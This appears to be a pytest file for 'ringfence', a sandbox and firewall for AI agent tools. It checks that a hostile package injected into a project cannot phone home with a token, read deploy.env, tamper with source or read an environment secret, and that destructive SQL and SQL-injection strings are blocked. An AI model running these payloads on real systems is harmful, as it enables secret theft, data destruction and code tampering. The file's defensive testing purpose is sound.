"""What runs in the cases is confined by more than labels: a sandbox for programs, one table for each tool that acts."""

from __future__ import annotations

import socket
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest

from ringfence import Firewall
from ringfence.bench.cases.case import Case, load
from ringfence.bench.cases.deployment import deployed, missing
from ringfence.config import FILE, find
from ringfence.connectors.configured import configured_tools
from ringfence.connectors.sandbox.sandbox import Sandbox
from ringfence.core.values import unsafe_plain
from ringfence.session.result import Result

ENGINEER, BOOKING, SYSTEM = load("software-engineer"), load("booking"), load("os-assistant")

HOSTILE = """
import os, socket

def tried(what, attempt):
    try:
        attempt()
        print("DONE", what)
    except BaseException as problem:
        print("held", what, type(problem).__name__)

def call_home():
    with socket.create_connection(("127.0.0.1", {port}), 1) as line:
        line.send(b"token")

tried("network", call_home)
tried("settings", lambda: open({project!r} + "/deploy.env").read())
tried("settings beside it", lambda: open("deploy.env").read())
tried("source", lambda: open({project!r} + "/app/distance.py", "a").write("import evil"))
tried("new file", lambda: open({project!r} + "/new.py", "x"))
tried("environment", lambda: os.environ["RINGFENCE_SECRET_OF_THIS_TEST"])
"""


def needs_sandbox(case: Case, task: str) -> None:
    if lack := missing(case.task(task)):
        pytest.skip(lack)


def test_a_hostile_package_runs_with_the_tests_and_reaches_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    needs_sandbox(ENGINEER, "test")
    monkeypatch.setenv("RINGFENCE_SECRET_OF_THIS_TEST", "x")
    with socket.create_server(("127.0.0.1", 0)) as listener, deployed(ENGINEER, tmp_path) as deployment:
        listener.settimeout(0.1)
        package, source = tmp_path / "project/vendor/unitz/__init__.py", tmp_path / "project/app/distance.py"
        before = source.read_text()
        code = HOSTILE.format(port=listener.getsockname()[1], project=str(tmp_path / "project"))
        package.write_text(package.read_text() + code)
        with Firewall(deployment.tools, policy=deployment.config) as firewall:
            result = firewall.exec(ENGINEER.task("test").plan)
        printed = unsafe_plain(result.answer).fields["stdout"]
        assert (result.outcome, "DONE" in printed, printed.count("held")) == ("completed", False, 6), printed
        with pytest.raises(TimeoutError):
            listener.accept()
        assert source.read_text() == before


def counted(folder: Path, backend: str) -> Result:
    """The task that runs a command, where only this backend may be used."""
    task = SYSTEM.task("count")
    with deployed(SYSTEM, folder):
        policy = folder / FILE
        policy.write_text(policy.read_text().replace("[sandbox]", f'[sandbox]\nbackend = "{backend}"'))
        config = replace(find(policy), pins=None)
        with Firewall(configured_tools(config), policy=config) as firewall:
            return firewall.exec(task.plan)


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
def test_either_backend_counts(tmp_path: Path, backend: str) -> None:
    found = {one.name: one for one in Sandbox((backend,)).backends()}[backend]
    if not found.works:
        pytest.skip(found.reason)
    result = counted(tmp_path, backend)
    assert (result.outcome, unsafe_plain(result.answer)) == ("completed", "5")


def test_without_a_sandbox_there_is_no_tool(tmp_path: Path) -> None:
    result = counted(tmp_path, "none")
    assert (result.outcome, result.diagnostics[0].code, result.calls) == ("rejected", "E201", ())


def test_what_does_not_isolate_commands_runs_none_and_says_what_to_install(tmp_path: Path) -> None:
    result = counted(tmp_path, "monty")
    assert result.outcome == "failed"
    assert "apt install bubblewrap" in result.detail


STATEMENTS = (
    "DELETE FROM bookings",
    "UPDATE hotels SET price = 1",
    "INSERT INTO messages VALUES ('grand-mallory', 'x')",
    "DROP TABLE traveller",
    "ATTACH 'elsewhere.db' AS other",
    "PRAGMA writable_schema = 1",
    "SELECT load_extension('evil')",
)


@pytest.mark.parametrize("statement", STATEMENTS)
def test_a_tool_that_books_can_do_nothing_else(tmp_path: Path, statement: str) -> None:
    with deployed(BOOKING, tmp_path):
        before = dump(tmp_path)
        changing = BOOKING.toolbox._changing  # type: ignore[attr-defined]
        with (
            pytest.raises(sqlite3.DatabaseError),
            changing(tmp_path / "travel.db", sqlite3.SQLITE_INSERT, "bookings") as connection,
        ):
            connection.execute(statement).fetchall()
        assert dump(tmp_path) == before


@pytest.mark.parametrize("text", ["x'; DELETE FROM bookings; --", 'x"); DROP TABLE bookings; --', "x\0y"])
def test_text_that_is_sql_is_text(tmp_path: Path, text: str) -> None:
    with deployed(BOOKING, tmp_path) as deployment, Firewall(deployment.tools, policy=deployment.config) as firewall:
        before = dump(tmp_path).count('INSERT INTO "bookings"')
        firewall.exec("message_hotel('pensao-do-rio', text)\nanswer(search_hotels(text))", {"text": text})
        assert dump(tmp_path).count('INSERT INTO "bookings"') == before == 1
        with sqlite3.connect(tmp_path / "travel.db") as travel:
            assert travel.execute("SELECT text FROM messages").fetchall() == [(text,)]
        travel.close()


def test_a_plan_books_one_room(tmp_path: Path) -> None:
    """Whatever the plan says, and whoever says yes: the budget of a run."""
    plan = (
        'from datetime import date\nfor hotel in ("casa-alfama", "pensao-do-rio"):\n    book(hotel, date.max, date.max)'
    )
    with deployed(BOOKING, tmp_path) as deployment, Firewall(deployment.tools, policy=deployment.config) as firewall:
        result = firewall.exec(plan)
    assert (result.outcome, result.error and result.error.code) == ("denied", "P430")
    assert dump(tmp_path).count('INSERT INTO "bookings"') == 2  # the one that was there, and one more


def dump(folder: Path) -> str:
    travel = sqlite3.connect(folder / "travel.db")
    try:
        return "\n".join(travel.iterdump())
    finally:
        travel.close()
